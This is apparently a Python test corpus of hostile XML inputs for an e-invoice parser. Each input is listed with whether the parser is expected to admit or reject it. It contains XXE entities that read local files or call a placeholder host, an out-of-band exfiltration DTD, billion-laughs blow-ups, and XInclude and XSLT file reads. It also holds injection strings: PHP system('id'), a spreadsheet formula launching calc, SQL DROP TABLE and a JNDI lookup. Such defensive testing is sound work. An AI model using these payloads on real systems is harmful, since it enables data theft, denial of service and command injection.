"""Attacks by XML: document types and entities, depth and size, encodings, and what would make a reader fetch things."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from tests.corpus.attacks import (
    ELSEWHERE,
    FILE,
    NOT_ADMITTED,
    REFUSED,
    TAKEN,
    Attack,
    after_the_notes,
    around,
    in_the_name,
    in_the_root,
    prolog,
    recoded,
)

if TYPE_CHECKING:
    from collections.abc import Callable

_ROOT = "rsm:CrossIndustryInvoice"
_XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
_NS = 'xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100"'


def _doctype(inside: str, *, outside: str = "", name: str = "&x;") -> Attack:
    """A document type declaration with this in it, and a use of what it declares."""
    internal = f" [{inside}]" if inside else ""
    return Attack("", prolog(f"<!DOCTYPE {_ROOT}{outside}{internal}>", name), NOT_ADMITTED, ("EDG-F103",))


def _laughs(levels: int, times: int) -> str:
    """Entities that each hold the one before many times over."""
    lines = ['<!ENTITY l0 "ha">']
    lines += [f'<!ENTITY l{n} "{f"&l{n - 1};" * times}">' for n in range(1, levels)]
    return "".join(lines) + f'<!ENTITY x "&l{levels - 1};">'


def _behind(make: Callable[[str], bytes], tail: bytes) -> Callable[[str], bytes]:
    return lambda number: make(number) + tail


def _attributes(count: int, prefix: str = "a") -> str:
    return " ".join(f'{prefix}{n}="1"' for n in range(count))


def _prefixed(count: int) -> bytes:
    """An element of many namespaces with an attribute in each."""
    spaces = " ".join(f'xmlns:p{n}="urn:x:{n}" p{n}:a="1"' for n in range(count))
    return f"<ram:IncludedNote {spaces}/>".encode()


def _inherited(spaces: int, elements: int) -> bytes:
    """Many namespaces, and many elements in the last of them."""
    declared = " ".join(f'xmlns:p{n}="urn:x:{n}"' for n in range(spaces))
    return f"<ram:IncludedNote {declared}>{f'<p{spaces - 1}:a/>' * elements}</ram:IncludedNote>".encode()


def _wide_far_down(encoding: str) -> Callable[[str], bytes]:
    """A declaration after a comment whose characters, byte by byte, seem to end it and to begin a root."""
    seeming = "\u2d2d\u3e00<a" if encoding == "UTF-16" else ""
    make = prolog(f'<!--{"é" * 70_000}{seeming}--><!DOCTYPE {_ROOT} SYSTEM "/nowhere/opened">')
    return lambda number: make(number).decode().replace("UTF-8", encoding, 1).encode(encoding)


_FAR_DOWN = f"<!--{'x ' * 40_000}-->"
_DOCTYPES = {
    "dtd: empty": _doctype("", name=""),
    "dtd: internal entity": _doctype('<!ENTITY x "Morvandier">'),
    "dtd: external entity, a file": _doctype(f'<!ENTITY x SYSTEM "{FILE}">'),
    "dtd: external entity, an address": _doctype(f'<!ENTITY x SYSTEM "{ELSEWHERE}/entity">'),
    "dtd: external entity, public identifier": _doctype(f'<!ENTITY x PUBLIC "-//X//EN" "{ELSEWHERE}/public">'),
    "dtd: parameter entity": _doctype(f'<!ENTITY % p SYSTEM "{ELSEWHERE}/parameter"> %p;'),
    "dtd: parameter entity, a file": _doctype(f'<!ENTITY % p SYSTEM "{FILE}"> %p;'),
    "dtd: parameter entity that declares one": _doctype(
        f"<!ENTITY % p \"<!ENTITY x SYSTEM '{ELSEWHERE}/nested'>\"> %p;"
    ),
    "dtd: out of band": _doctype(
        f'<!ENTITY % f SYSTEM "{FILE}"><!ENTITY % d SYSTEM "{ELSEWHERE}/collect.dtd"> %d;'
    ),
    "dtd: external subset": _doctype("", outside=f' SYSTEM "{ELSEWHERE}/subset.dtd"', name=""),
    "dtd: external subset, public": _doctype("", outside=f' PUBLIC "-//X//EN" "{ELSEWHERE}/public.dtd"', name=""),
    "dtd: external subset, a file": _doctype("", outside=f' SYSTEM "{FILE}"', name=""),
    "dtd: default attributes": _doctype(f'<!ATTLIST {_ROOT} schemeID CDATA "1">', name=""),
    "dtd: notation and unparsed entity": _doctype(
        f'<!NOTATION n SYSTEM "{ELSEWHERE}/notation"><!ENTITY x SYSTEM "{ELSEWHERE}/unparsed" NDATA n>', name=""
    ),
    "dtd: conditional section": _doctype("<![INCLUDE[<!ENTITY x 'y'>]]>"),
    "dtd: an entity of itself": _doctype('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
    "dtd: billion laughs": _doctype(_laughs(10, 10)),
    "dtd: billion laughs in parameters": _doctype(
        "<!ENTITY % a 'ha'>" + "".join(f"<!ENTITY % b{n} '{'%a;' * 10}'>" for n in range(9)) + "%b8;", name=""
    ),
    "dtd: quadratic blow-up": _doctype(f'<!ENTITY x "{"x" * 50_000}">', name="&x;" * 20_000),
    "dtd: blow-up in an attribute": _doctype(f'<!ENTITY x "{"x" * 50_000}">', name=f'<x y="{"&x;" * 5_000}"/>'),
    "dtd: after a megabyte of comments": Attack(
        "", prolog("<!-- - -->" * 100_000 + '<!DOCTYPE x [<!ENTITY x "y">]>', "&x;"), NOT_ADMITTED, ("EDG-F103",)
    ),
    "dtd: after many instructions": Attack(
        "", prolog("<?p <!x?>" * 1_000 + '<!DOCTYPE x [<!ENTITY x "y">]>', "&x;"), NOT_ADMITTED, ("EDG-F103",)
    ),
    **{
        f"dtd: far down, {what}": Attack(
            "", prolog(f"{_FAR_DOWN}<!DOCTYPE {_ROOT}{declared}>", name), NOT_ADMITTED, ("EDG-F103",)
        )
        for what, declared, name in (
            ("a file", f' SYSTEM "{FILE}"', ""),
            ("a file that is missing", ' SYSTEM "file:///nowhere/missing"', ""),
            ("an address", f' SYSTEM "{ELSEWHERE}/far.dtd"', ""),
            ("public", f' PUBLIC "-//X//EN" "{ELSEWHERE}/far-public.dtd"', ""),
            ("an endless file", ' SYSTEM "/dev/zero"', ""),
            ("a file for a parameter", f' [<!ENTITY % p SYSTEM "{FILE}"> %p;]', ""),
            ("a file for an entity", f' [<!ENTITY x SYSTEM "{FILE}">]', "&x;"),
        )
    },
    **{
        f"dtd: far down, after {what}": Attack(
            "", prolog(f'{before}<!DOCTYPE {_ROOT} SYSTEM "{FILE}">'), NOT_ADMITTED, ("EDG-F103",)
        )
        for what, before in (
            ("blanks", " \r\n\t" * 50_000),
            ("an instruction", f"<?x {'x' * 200_000}?>"),
            ("comments that speak of a root", "<!-- <a> - -->\n" * 20_000),
            ("12 MB", f"<!--{'x' * 12_000_000}-->"),
        )
    },
    **{
        f"dtd: far down, in {encoding}": Attack("", _wide_far_down(encoding), NOT_ADMITTED, ("EDG-F103",))
        for encoding in ("UTF-16", "UTF-32")
    },
    "dtd: behind an encoding far down": Attack(
        "",
        lambda n: re.sub(
            rb'encoding="[^"]*"\?>',
            lambda _: b" " * 200_000 + b'encoding="UTF-7"?>+ADwAIQ-DOCTYPE x SYSTEM "' + FILE.encode() + b'"+AD4-',
            prolog("")(n),
            count=1,
        ),
        NOT_ADMITTED,
        ("EDG-F102",),
    ),
    "dtd: two": Attack("", prolog("<!DOCTYPE x><!DOCTYPE y>"), NOT_ADMITTED, ("EDG-F103",)),
    "dtd: unfinished": Attack("", around(b"<!DOCTYPE x [" + b"<!ENTITY x 'y'>" * 1_000), NOT_ADMITTED, ("EDG-F103",)),
    "dtd: in UTF-16": Attack(
        "", lambda n: prolog("<!DOCTYPE x>")(n).decode().replace("UTF-8", "UTF-16").encode("utf-16"),
        NOT_ADMITTED, ("EDG-F103",),
    ),
    "dtd: in UTF-32": Attack(
        "", lambda n: prolog("<!DOCTYPE x>")(n).decode().replace("UTF-8", "UTF-32").encode("utf-32"),
        NOT_ADMITTED, ("EDG-F103",),
    ),
    "dtd: in EBCDIC": Attack(
        "", lambda n: prolog("<!DOCTYPE x>")(n).decode().replace("UTF-8", "ebcdic-cp-us").encode("cp037"),
        NOT_ADMITTED, ("EDG-F102",),
    ),
    "dtd: in UTF-7": Attack(
        "", lambda n: prolog("+ADwAIQ-DOCTYPE x+AD4-")(n).replace(b"UTF-8", b"UTF-7"), NOT_ADMITTED, ("EDG-F102",)
    ),
    "entity: not declared": Attack("", in_the_name("&nbsp;"), NOT_ADMITTED, ("EDG-F101",)),
    "entity: the built-in ones": Attack("", in_the_name("&lt;a&gt;&amp;&quot;&apos;&#65;&#x42;"), TAKEN),
    "character: NUL by number": Attack("", in_the_name("a&#0;b"), NOT_ADMITTED, ("EDG-F101",)),
    "character: control by number": Attack("", in_the_name("a&#x1b;b"), NOT_ADMITTED, ("EDG-F101",)),
    "character: surrogate by number": Attack("", in_the_name("a&#xD800;b"), NOT_ADMITTED, ("EDG-F101",)),
    "character: past Unicode": Attack("", in_the_name("a&#x110000;b"), NOT_ADMITTED, ("EDG-F101",)),
    "character: a number without end": Attack("", in_the_name(f"&#{'9' * 1_000_000};"), NOT_ADMITTED, ("EDG-F101",)),
}  # fmt: skip

_SIZES = {
    "depth: 300 levels": Attack("", after_the_notes(b"<a>" * 300 + b"</a>" * 300), NOT_ADMITTED, ("EDG-F104",)),
    "depth: 100,000 levels": Attack(
        "", after_the_notes(b"<a>" * 100_000 + b"</a>" * 100_000), NOT_ADMITTED, ("EDG-F104",)
    ),
    "depth: 2,000,000 levels, in huge mode": Attack(
        "", after_the_notes(b"<a>" * 2_000_000 + b"</a>" * 2_000_000), NOT_ADMITTED, ("EDG-F104",)
    ),
    "depth: never closed": Attack("", around(b"<a>" * 1_000_000), NOT_ADMITTED, ("EDG-F104",)),
    "size: an attribute of 9 MB": Attack("", in_the_root(f'x="{"x" * 9_000_000}"'), NOT_ADMITTED, ("EDG-F109",)),
    "size: an attribute of 12 MB": Attack("", in_the_root(f'x="{"x" * 12_000_000}"'), NOT_ADMITTED, ("EDG-F109",)),
    "size: a text of 12 MB": Attack("", in_the_name("x" * 12_000_000), REFUSED, ("EDG-I050",)),
    "size: a name of 100,000 bytes": Attack(
        "", after_the_notes(b"<" + b"x" * 100_000 + b"/>"), NOT_ADMITTED, ("EDG-F104",)
    ),
    "size: a comment of 12 MB": Attack("", prolog("<!--" + "x" * 12_000_000 + "-->"), TAKEN),
    "size: an instruction of 12 MB": Attack("", prolog("<?x " + "x" * 12_000_000 + "?>"), TAKEN),
    "size: 200,000 comments": Attack("", prolog("<!-- x -->" * 200_000), TAKEN),
    "size: a CDATA section of 5 MB": Attack(
        "", in_the_name("<![CDATA[" + "]]" * 2_500_000 + "]]>"), REFUSED, ("EDG-I050",)
    ),
    "size: 200,000 CDATA sections": Attack("", in_the_name("<![CDATA[x]]>" * 200_000), REFUSED, ("EDG-I050",)),
    "size: 200,000 numbered characters": Attack("", in_the_name("&#65;" * 200_000), REFUSED, ("EDG-I050",)),
    "many: 100,000 attributes": Attack("", in_the_root(_attributes(100_000)), NOT_ADMITTED, ("EDG-F109",)),
    "many: attributes twice": Attack("", in_the_root('x="1" ' * 2), NOT_ADMITTED, ("EDG-F101",)),
    "many: 20,000 namespaces with an attribute each": Attack(
        "", after_the_notes(_prefixed(20_000)), NOT_ADMITTED, ("EDG-F109",)
    ),
    "many: 5,000 namespaces over 5,000 elements": Attack(
        "", after_the_notes(_inherited(5_000, 5_000)), NOT_ADMITTED, ("EDG-F106",)
    ),
    "many: 200,000 elements out of place": Attack(
        "", after_the_notes(b"<ram:W/>" * 200_000), NOT_ADMITTED, ("EDG-F106",)
    ),
    "many: 30,000 elements out of place, few bytes": Attack(
        "", after_the_notes(b"<w/>" * 30_000), NOT_ADMITTED, ("EDG-F106",)
    ),
    "many: 20,000 empty notes": Attack(
        "", after_the_notes(b"<ram:IncludedNote/>" * 20_000), TAKEN
    ),
}  # fmt: skip

_FETCHING = {
    "fetch: XInclude of an address": Attack(
        "", after_the_notes(
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{ELSEWHERE}/xinclude"/>'.encode()
        ), NOT_ADMITTED, ("EDG-F106",),
    ),
    "fetch: XInclude of a file as text": Attack(
        "", in_the_name(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{FILE}"/>'),
        NOT_ADMITTED, ("EDG-F110",),
    ),
    "fetch: schemaLocation": Attack(
        "", in_the_root(f'{_XSI} xsi:schemaLocation="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100'
                        f' {ELSEWHERE}/schema.xsd"'), TAKEN,
    ),
    "fetch: schemaLocation of a file": Attack(
        "", in_the_root(f'{_XSI} xsi:schemaLocation="urn:x {FILE}"'), TAKEN
    ),
    "fetch: schemaLocation beside a mistake": Attack(
        "", lambda n: after_the_notes(b"<ram:Wrong/>")(n).replace(
            b"<rsm:CrossIndustryInvoice", f'<rsm:CrossIndustryInvoice {_XSI} xsi:schemaLocation="urn:un:unece:uncefact:'
            f'data:standard:CrossIndustryInvoice:100 {ELSEWHERE}/explained.xsd urn:y {FILE}"'.encode(), 1
        ), NOT_ADMITTED, ("EDG-F106",),
    ),
    "fetch: noNamespaceSchemaLocation": Attack(
        "", in_the_root(f'{_XSI} xsi:noNamespaceSchemaLocation="{ELSEWHERE}/none.xsd"'), TAKEN
    ),
    "fetch: xsi:type of a type that is none": Attack(
        "", in_the_root(f'{_XSI} xmlns:e="urn:e" xsi:type="e:Elsewhere"'), NOT_ADMITTED, ("EDG-F110",)
    ),
    "fetch: stylesheet": Attack(
        "", prolog(f'<?xml-stylesheet type="text/xsl" href="{ELSEWHERE}/style.xsl"?>'), TAKEN
    ),
    "fetch: stylesheet of a file": Attack("", prolog(f'<?xml-stylesheet type="text/xsl" href="{FILE}"?>'), TAKEN),
    "fetch: model": Attack("", prolog(f'<?xml-model href="{ELSEWHERE}/model.rnc"?>'), TAKEN),
    "fetch: PHP": Attack("", prolog('<?php system("id"); ?>'), TAKEN),
    "fetch: xml:base": Attack("", in_the_root(f'xml:base="{ELSEWHERE}/"'), NOT_ADMITTED, ("EDG-F109",)),
    "root: XSLT that reads documents": Attack(
        "", lambda _: (
            '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
            f"<xsl:copy-of select=\"document('{FILE}')|document('{ELSEWHERE}/xslt')\"/></xsl:template></xsl:stylesheet>"
        ).encode(), NOT_ADMITTED, ("EDG-F105",),
    ),
    "root: a schema that includes another": Attack(
        "", lambda _: (
            f'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="{ELSEWHERE}/x"/>'
            "</xs:schema>"
        ).encode(), NOT_ADMITTED, ("EDG-F105",),
    ),
    "root: SVG with a script": Attack(
        "", lambda _: (
            f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink" onload="x()">'
            f'<image l:href="{ELSEWHERE}/image"/></svg>'
        ).encode(), NOT_ADMITTED, ("EDG-F105",),
    ),
    "root: the right name without a namespace": Attack(
        "", lambda _: b"<CrossIndustryInvoice/>", NOT_ADMITTED, ("EDG-F105",)
    ),
    "text: markup in a name": Attack("", in_the_name("&lt;script&gt;alert(1)&lt;/script&gt;"), TAKEN),
    "text: a formula in a name": Attack("", in_the_name("=cmd|' /C calc'!A0"), TAKEN),
    "text: right-to-left marks in a name": Attack("", in_the_name("a\u202efdp.exe\u2066"), TAKEN),
    "text: SQL in a name": Attack("", in_the_name("x'); DROP TABLE flows; --"), TAKEN),
    "text: a template in a name": Attack("", in_the_name("{value} %s ${jndi:ldap://x} {{7*7}} [bold]x[/]"), TAKEN),
}  # fmt: skip

_ENCODINGS = {
    "encoding: latin-1 that says UTF-8": Attack("", recoded("latin-1", "UTF-8"), NOT_ADMITTED, ("EDG-F102",)),
    "encoding: UTF-8 that says UTF-16": Attack("", recoded("utf-8", "UTF-16"), NOT_ADMITTED, ("EDG-F102",)),
    "encoding: UTF-16 with its mark": Attack("", recoded("utf-16", "UTF-16"), TAKEN),
    "encoding: UTF-16 without a mark, little end first": Attack("", recoded("utf-16-le", "UTF-16"), TAKEN),
    "encoding: UTF-16 without a mark, big end first": Attack("", recoded("utf-16-be", "UTF-16"), TAKEN),
    "encoding: UTF-16 that says UTF-8": Attack("", recoded("utf-16", "UTF-8"), TAKEN),
    "encoding: UTF-16 cut in a character": Attack(
        "", lambda n: recoded("utf-16-le", "UTF-16", b"\xff\xfe")(n)[:-1], NOT_ADMITTED, ("EDG-F102",)
    ),
    "encoding: UTF-7": Attack("", recoded("utf-7"), NOT_ADMITTED, ("EDG-F102",)),
    "encoding: UTF-32 with its mark": Attack("", recoded("utf-32"), TAKEN),
    "encoding: UTF-32 without a mark": Attack("", recoded("utf-32-be", "UTF-32"), TAKEN),
    "encoding: EBCDIC": Attack("", recoded("cp037", "IBM037"), NOT_ADMITTED, ("EDG-F102",)),
    **{
        f"encoding: {name}, in which markup could hide": Attack(
            "", recoded("utf-8", name), NOT_ADMITTED, ("EDG-F102",)
        )
        for name in ("UTF-7", "HZ", "ISO-2022-JP", "JAVA", "C99")
    },
    **{
        f"encoding: {name}, which Python alone knows": Attack(
            "", _behind(recoded("utf-8", name), b"x-9" * 100_000), NOT_ADMITTED, ("EDG-F102",),
        )
        for name in ("punycode", "idna", "undefined", "unicode_escape", "zlib")
    },
    "encoding: none that exists": Attack("", recoded("utf-8", "X" * 10_000), NOT_ADMITTED, ("EDG-F102",)),
    "encoding: a path for a name": Attack("", recoded("utf-8", "../../etc"), NOT_ADMITTED, ("EDG-F101",)),
    "encoding: half UTF-8, half latin-1": Attack(
        "", lambda n: prolog("<!-- é -->")(n) + "<!-- é -->".encode("latin-1"), NOT_ADMITTED, ("EDG-F102",)
    ),
    "encoding: two marks": Attack("", around(b"\xef\xbb\xbf\xef\xbb\xbf"), NOT_ADMITTED, ("EDG-F101",)),
    "encoding: the mark of another": Attack("", around(b"\xff\xfe"), NOT_ADMITTED, ("EDG-F101",)),
    "encoding: an overlong slash": Attack(
        "", lambda n: in_the_name("@")(n).replace(b"@", b"\xc0\xaf", 1), NOT_ADMITTED, ("EDG-F102",)
    ),
    "encoding: surrogates in UTF-8": Attack(
        "", lambda n: in_the_name("@")(n).replace(b"@", b"\xed\xa0\xbd\xed\xb8\x80", 1), NOT_ADMITTED, ("EDG-F102",)
    ),
    "encoding: a character past Unicode": Attack(
        "", lambda n: in_the_name("@")(n).replace(b"@", b"\xf7\xbf\xbf\xbf", 1), NOT_ADMITTED, ("EDG-F102",)
    ),
    "bytes: NUL in a name": Attack("", in_the_name("a\0b"), NOT_ADMITTED, ("EDG-F101",)),
    "bytes: NULs at the end": Attack("", around(b"", b"\0" * 4_096), NOT_ADMITTED, ("EDG-F101",)),
    "bytes: NULs before the start": Attack("", around(b"\0" * 64), NOT_ADMITTED, ("EDG-F101",)),
    "bytes: control characters": Attack("", in_the_name("a\x1b[2Jb\x07"), NOT_ADMITTED, ("EDG-F101",)),
    "bytes: no characters": Attack("", in_the_name("a\ufffe\uffffb"), NOT_ADMITTED, ("EDG-F101",)),
    "bytes: C1 controls, which XML allows": Attack("", in_the_name("a\x85\x9bb"), TAKEN),
    "form: XML 1.1": Attack("", lambda n: prolog("")(n).replace(b'version="1.0"', b'version="1.1"', 1), TAKEN),
    "form: XML 9.9": Attack(
        "", lambda n: prolog("")(n).replace(b'version="1.0"', b'version="9.9"', 1), NOT_ADMITTED, ("EDG-F101",)
    ),
    "form: two declarations": Attack("", prolog('<?xml version="1.0"?>'), NOT_ADMITTED, ("EDG-F101",)),
    "form: two roots": Attack("", around(b"", b"<second/>"), NOT_ADMITTED, ("EDG-F101",)),
    "form: text behind the root": Attack("", around(b"", b"x"), NOT_ADMITTED, ("EDG-F101",)),
    "form: another document behind the root": Attack("", lambda n: prolog("")(n) * 2, NOT_ADMITTED, ("EDG-F101",)),
    "form: a prefix that nobody declared": Attack("", after_the_notes(b"<q:a/>"), NOT_ADMITTED, ("EDG-F101",)),
    "form: a colon too many": Attack("", after_the_notes(b"<ram:a:b/>"), NOT_ADMITTED, ("EDG-F101",)),
    "form: the prefix xmlns": Attack("", in_the_root('xmlns:xmlns="urn:x"'), NOT_ADMITTED, ("EDG-F101",)),
    "form: a tag within a tag": Attack("", in_the_name("<a <b>>"), NOT_ADMITTED, ("EDG-F101",)),
    "form: markup alone": Attack("", lambda _: b"<" * 1_000_000, NOT_ADMITTED, ("EDG-F101",)),
    "form: a tag without end": Attack("", lambda _: b"<a " + b"x" * 3_000_000, NOT_ADMITTED, ("EDG-F104",)),
}  # fmt: skip

XML_ATTACKS = tuple(
    attack._replace(name=name) for table in (_DOCTYPES, _SIZES, _FETCHING, _ENCODINGS) for name, attack in table.items()
)
